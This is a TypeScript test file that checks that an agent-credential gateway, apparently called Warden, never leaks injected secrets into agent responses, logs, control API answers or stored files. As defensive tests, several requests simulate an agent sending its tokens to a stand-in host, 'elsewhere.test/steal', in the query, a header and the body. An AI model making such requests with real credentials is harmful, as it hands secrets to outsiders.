/**
 * Real secret values must never surface anywhere but the upstream: not in the gateway's output,
 * the agent's responses, errors, audit rows, approval payloads, other control API answers, or the
 * files of the Warden home (values are encrypted at rest). Exercises every feature first.
 */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type AgentCredentials, type GatewayProcess, startGateway } from "../fakes/gateway-process.js";
import {
  type ProxiedResponse,
  type ProxyRequestInit,
  proxyRequest,
  proxyWebSocket,
} from "../fakes/proxy-client.js";
import { createTestCa } from "../fakes/test-ca.js";
import { type RecordingUpstream, startUpstream } from "../fakes/upstreams.js";
import { decide, listApprovals, waitForPending } from "./approvals-api.js";

const SECRETS = {
  HEADER_TOKEN: "ghp_REALheaderSECRET_5f1e9a0b7c3d2e4f",
  BODY_TOKEN: "sk_live_REALbodySECRET_8a7b6c5d4e3f",
};
const APPROVERS = ["test:alice"];

let up: RecordingUpstream;
let tlsUp: RecordingUpstream;
let gw: GatewayProcess;
let agent: AgentCredentials;
const seenByAgent: string[] = [];

function files(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? files(path) : [path];
  });
}

async function send(url: string, init: Omit<ProxyRequestInit, "auth">): Promise<ProxiedResponse> {
  const res = await proxyRequest(gw, url, { ...init, auth: { agent: "leaky", token: agent.token } });
  seenByAgent.push(JSON.stringify({ url, status: res.status, headers: res.headers, body: res.text }));
  return res;
}

beforeAll(async () => {
  const ca = await createTestCa();
  up = await startUpstream();
  tlsUp = await startUpstream({ tls: await ca.issue(["vault-tls.test"]) });
  gw = await startGateway({
    policies: {
      vault: {
        hosts: ["vault.test", "vault-tls.test"],
        secrets: { HEADER_TOKEN: {}, BODY_TOKEN: { body: true } },
        rate_limit: "1000/min",
        rules: [
          { name: "pay", methods: ["POST"], paths: ["/pay/*"], action: "approve", approvers: APPROVERS },
          { name: "no-delete", methods: ["DELETE"], action: "deny" },
        ],
        default: "allow",
      },
      elsewhere: { hosts: ["elsewhere.test"], rules: [], default: "allow" },
    },
    upstreamCa: [ca.pemPath],
    resolve: {
      "vault.test": `127.0.0.1:${up.port}`,
      "elsewhere.test": `127.0.0.1:${up.port}`,
      "vault-tls.test": `127.0.0.1:${tlsUp.port}`,
    },
  });
  for (const [name, value] of Object.entries(SECRETS)) await gw.setSecret(name, value);
  agent = await gw.createAgent("leaky");
  seenByAgent.push(JSON.stringify(agent));
});

afterAll(async () => {
  await gw?.cleanup();
  await up?.close();
  await tlsUp?.close();
});

describe("every feature, then a search for the real values", () => {
  it("exercises injection, scrubbing, refusals, approvals and WebSockets", async () => {
    const hdr = agent.env.HEADER_TOKEN as string;
    const bod = agent.env.BODY_TOKEN as string;
    const v = `http://vault.test:${up.port}`;
    const auth = { authorization: `Bearer ${hdr}` };

    expect((await send(`${v}/echo-auth`, { headers: auth })).status).toBe(200);
    expect((await send(`https://vault-tls.test:${tlsUp.port}/echo-auth`, { headers: auth })).status).toBe(
      200,
    );
    expect((await send(`${v}/q/${hdr}?k=${hdr}`, { headers: auth })).status).toBe(200);
    expect(
      (
        await send(`${v}/body`, {
          method: "PUT",
          body: JSON.stringify({ t: bod, h: hdr }),
          headers: { "content-type": "application/json" },
        })
      ).status,
    ).toBe(200);
    expect((await send(`${v}/x`, { method: "DELETE", headers: auth })).status).toBe(403);
    expect((await send(`http://elsewhere.test:${up.port}/steal?k=${hdr}`, { headers: auth })).status).toBe(
      403,
    );
    expect(
      (
        await send(`http://elsewhere.test:${up.port}/steal`, {
          method: "POST",
          body: bod,
          headers: { "x-token": bod },
        })
      ).status,
    ).toBe(403);
    expect((await send(`${v}/redirect?k=${hdr}`, { headers: auth })).status).toBe(302);

    const held = send(`${v}/pay/1?k=${hdr}`, {
      method: "POST",
      body: JSON.stringify({ token: bod, note: "pay" }),
      headers: { ...auth, "content-type": "application/json", "x-warden-reason": `using ${hdr} to pay` },
    });
    const approval = await waitForPending(gw, "/pay/1");
    seenByAgent.push(JSON.stringify(await listApprovals(gw)));
    expect((await decide(gw, approval.id, "approve", "test:alice")).status).toBe(200);
    expect((await held).status).toBe(200);
    const denied = send(`${v}/pay/2`, { method: "POST", body: bod, headers: auth });
    const second = await waitForPending(gw, "/pay/2");
    await decide(gw, second.id, "deny", "test:alice");
    expect((await denied).status).toBe(403);

    const ws = await proxyWebSocket(
      gw,
      `ws://vault.test:${up.port}/socket`,
      { agent: "leaky", token: agent.token },
      auth,
    );
    ws.close();

    // Sanity: the upstream did get the real values, so the search below is meaningful.
    const upstreamSaw = JSON.stringify([
      up.requests.map((r) => [r.url, r.headers, r.body.toString()]),
      up.handshakes,
    ]);
    expect(upstreamSaw).toContain(SECRETS.HEADER_TOKEN);
    expect(upstreamSaw).toContain(SECRETS.BODY_TOKEN);
  });

  it.each(Object.keys(SECRETS))("finds %s nowhere it must not be", async (name) => {
    const value = SECRETS[name as keyof typeof SECRETS];
    const places: Record<string, string> = {
      "agent responses": seenByAgent.join("\n"),
      "gateway stdout/stderr": gw.output(),
    };
    for (const path of [
      "/v1/audit?after=0",
      "/v1/approvals?state=pending",
      "/v1/approvals",
      "/v1/secrets",
      "/v1/agents",
      "/v1/health",
      "/metrics",
    ]) {
      places[`GET ${path}`] = (await gw.control("GET", path)).text;
    }
    for (const file of files(gw.home)) places[file] = readFileSync(file).toString("latin1");
    for (const [where, text] of Object.entries(places)) {
      expect(text.includes(value), `${name} leaked into ${where}`).toBe(false);
      const b64 = Buffer.from(value).toString("base64");
      expect(text.includes(b64), `${name} (base64) leaked into ${where}`).toBe(false);
    }
    expect(places["GET /v1/secrets"]).toContain(name);
  });
});
